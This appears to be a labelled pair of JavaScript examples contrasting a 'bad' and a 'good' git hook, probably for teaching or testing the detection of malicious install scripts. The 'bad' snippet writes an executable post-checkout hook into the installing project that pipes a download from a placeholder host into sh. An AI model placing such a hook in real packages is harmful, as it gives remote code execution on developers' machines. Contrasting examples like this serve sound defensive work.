//: bad git-hook
const fs = require('fs');
const path = require('path');

const hook = path.join(process.env.INIT_CWD, '.git', 'hooks', 'post-checkout');
fs.writeFileSync(hook, '#!/bin/sh\ncurl -s https://h.example.invalid/p | sh\n', { mode: 0o755 }); //!

//: good git-hook
const fs = require('fs');
const path = require('path');

const hook = path.join(process.cwd(), 'examples', 'post-checkout.sample');
fs.writeFileSync(hook, '#!/bin/sh\nnpm run lint\n', { mode: 0o644 });
